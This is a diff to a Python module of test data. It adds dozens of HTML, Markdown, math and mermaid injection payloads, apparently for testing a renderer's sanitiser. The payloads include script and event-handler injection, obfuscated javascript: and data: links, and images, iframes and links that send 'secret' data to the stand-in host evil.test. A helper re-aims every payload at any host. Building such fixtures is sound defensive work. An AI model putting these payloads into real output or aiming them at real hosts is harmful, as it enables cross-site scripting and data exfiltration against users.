@@ -1,5 +1,8 @@
-"""Answers that try to run, fetch, leave or hide something; data for the tests."""
+"""Answers that try to run, fetch, leave or hide something: data for tests of text and of pages."""
 
+import re
+
+_ADDRESS = re.compile(r"(https:)?//[\w.]*\.test\b")
 EVIL = "<img src=https://evil.test/x onerror=alert(1)>"
 
 ATTACKS = {
@@ -105,3 +108,106 @@ ATTACKS = {
     "indented code": f"    {EVIL}\n    ![x](https://evil.test)",
     "everything open": f"<details>\n> - ```html\n{EVIL}\n$$ \\[ \\begin{{align}} ` <!-- [x](",
 }
+
+ATTACKS |= {
+    "script with a source": "<script src=https://evil.test/a.js></script>",
+    "script in svg": "<svg><script>alert(1)</script><animate onbegin=alert(1) attributeName=x>",
+    "style breakout": "<style><img src=x onerror=alert(1)></style><noscript><p title='</noscript>",
+    "mutation": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+    "template": "<template shadowrootmode=open><script>alert(1)</script></template>",
+    "iframe source": "<iframe src=https://evil.test/frame></iframe>",
+    "iframe with a script address": "<iframe src='javascript:alert(1)'></iframe>",
+    "object and embed": "<object data=https://evil.test/o></object><embed src=https://evil.test/e>",
+    "stylesheet": "<link rel=stylesheet href=https://evil.test/a.css>",
+    "preconnect": (
+        "<link rel=preconnect href=https://evil.test><link rel=prefetch href=//evil.test/p>"
+    ),
+    "base": "<base href=https://evil.test/> [relative](x) ![relative](x.png)",
+    "form": "<form action=https://evil.test/f><input autofocus onfocus=alert(1)><button>Send",
+    "form action by button": "<form id=f></form><button form=f formaction=javascript:alert(1)>Go",
+    "toggled details": "<details open ontoggle=alert(1)><summary>more</summary>text</details>",
+    "animation": "<style>@keyframes x{}</style><p style='animation:x' onanimationstart=alert(1)>x",
+    "pinging link": "<a href=https://evil.test ping=https://evil.test/ping>text</a>",
+    "link in HTML": "<a href=javascript:alert(1)>text</a> <a href='data:text/html,x'>other</a>",
+    "audio": "<audio src=https://evil.test/a.ogg autoplay></audio>",
+    "image button": "<input type=image src=https://evil.test/i.png>",
+    "image with srcset": "<img srcset='https://evil.test/1.png 1x'>",
+    "picture": "<picture><source srcset=https://evil.test/p.webp><img></picture>",
+    "css background": "<div style='background-image:url(https://evil.test/b.png)'>text</div>",
+    "css list": "<ul style='list-style-image:url(//evil.test/l.png)'><li>text</ul>",
+    "image in angle": "![secret](<https://evil.test/a b.png>)",
+    "image with a title": '![secret](https://evil.test/a.png "title")',
+    "image without protocol": "![secret](//evil.test/a.png)",
+    "image by collapsed reference": "![secret][]\n\n[secret]: https://evil.test/x.png",
+    "image by shortcut reference": "![secret]\n\n[secret]: <https://evil.test/x.png>",
+    "image in a heading": "# ![secret](https://evil.test/a.png)",
+    "image in a table": "| a |\n|---|\n| ![secret](https://evil.test/a.png) |",
+    "image over lines": "![secret\nwords](https://evil.test/a.png\n'title')",
+    "image by autolink": "!<https://evil.test/?q=secret> !!<https://evil.test/a> \\!<mailto:a@b.c>",
+    "image by entities": (
+        "&#33;[secret](https://evil.test/a.png) &excl;&lbrack;secret](https://e.test)"
+    ),
+    "entities of a tag": (
+        "&lt;img src=https://evil.test/x&gt; &#60;script&#62;alert(1)&#60;/script&#62;"
+    ),
+    "javascript by decimal entities": "[x](&#106;&#97;&#118;&#97;script:alert(1))",
+    "javascript by long entity": "[x](&#0000106avascript:alert(1)) [x](&#x6A;avascript:alert(1))",
+    "javascript by named white space": (
+        "[x](java&Tab;script:alert(1)) [x](&NewLine;javascript:alert(1))"
+    ),
+    "javascript with a slash": "[x](javascript://a.test/%0aalert(1)) [x](javascript:/**/alert(1))",
+    "javascript escaped": r"[x](javascript\:alert\(1\)) [x](\javascript:alert(1))",
+    "javascript percent-encoded": "[x](%6aavascript:alert(1)) [x](javascript%3Aalert(1))",
+    "javascript in a reference, angle": "[x]\n\n[x]: <JAVASCRIPT:alert(1)> 'title'",
+    "javascript after spaces": "[x](  javascript:alert(1)  ) [x](\u00a0javascript:alert(1))",
+    "data link in caps": (
+        "[x](DATA:text/html,<script>alert(1)</script>) [x](data&colon;text/html,x)"
+    ),
+    "data link in a reference": (
+        "[x]\n\n[x]: data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="
+    ),
+    "blob link": "[x](blob:https://evil.test/1) [x](view-source:https://evil.test)",
+    "math link": (
+        r"$\href{https://evil.test}{x}$ "
+        r"\(\href{javascript:alert(1)}{y}\) $$\url{data:x}$$"
+    ),
+    "math with HTML": (
+        r"$\require{html}\class{a}{x} \cssId{b}{y} "
+        r"\style{color:red}{z} \data{c=1}{d}$"
+    ),
+    "math with a picture": r"\[ \includegraphics{https://evil.test/a.png} \unicode{60}img \]",
+    "math with a macro": (
+        r"$\def\x{\href{javascript:alert(1)}{x}} \x$ "
+        r"$\newcommand{\y}{<img src=x>}\y$"
+    ),
+    "math in a quote of an attribute": (
+        '$x" onclick="alert(1)$ $$y" style="background:url(//evil.test)$$'
+    ),
+    "mermaid with a picture": (
+        "```mermaid\ngraph TD; A[\"<img src='https://evil.test/m.png'>\"]\n```"
+    ),
+    "mermaid with a theme": "~~~mermaid\n"
+    "%%{init: {'themeCSS': '*{background:url(//evil.test)}'}}%%\n"
+    "graph TD; A\n~~~",
+    "mermaid with a click": '```mermaid\ngraph TD; A\nclick A href "javascript:alert(1)"\n```',
+    "mermaid with attributes": "```{.mermaid}\ngraph TD; A[<script>alert(1)</script>]\n```",
+    "comment that ends oddly": f"<!-- a --!> {EVIL} <!-->{EVIL}--> <!- b -> <!--> {EVIL}",
+    "unclosed tags": "<b><i><table><td> and <a href='https://evil.test\n\n<div title=\"",
+    "nested fences": (
+        f"````html\n```mermaid\n{EVIL}\n```\n{EVIL}\n~~~\n````\n\n~~~\n```\n{EVIL}\n~~~\n{EVIL}"
+    ),
+    "fence in a fence in a list": (
+        f"- ```html\n  ~~~\n  {EVIL}\n  ```\n  {EVIL}\n- ~~~\n  ```\n{EVIL}"
+    ),
+    "command in a link": (
+        "[run](commandlinker:runmenu:run-all) <a data-commandlinker-command=x>go</a>"
+    ),
+    "heading with markup": f"# <script>alert(1)</script> {EVIL}\n\n{EVIL}\n---",
+    "task list with markup": f"- [ ] {EVIL}\n- [x] <script>alert(1)</script>",
+    "footnote with markup": f"text[^1]\n\n[^1]: {EVIL} ![x](https://evil.test/a.png)",
+}
+
+
+def aimed(attack: str, host: str) -> str:
+    """The attack with every address leading to this host, over plain HTTP."""
+    return _ADDRESS.sub(lambda found: f"{'http:' if found[1] else ''}//{host}", attack)
